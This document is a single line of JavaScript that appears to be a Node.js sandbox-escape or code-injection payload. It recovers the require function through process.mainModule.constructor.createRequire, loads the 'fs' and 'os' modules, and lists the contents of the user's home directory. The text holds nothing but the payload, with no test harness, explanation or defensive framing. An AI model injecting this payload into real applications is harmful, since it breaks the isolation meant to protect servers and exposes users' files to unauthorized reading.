const r = process.mainModule.constructor.createRequire(process.cwd() + '/x'); r('fs').readdirSync(r('os').homedir());
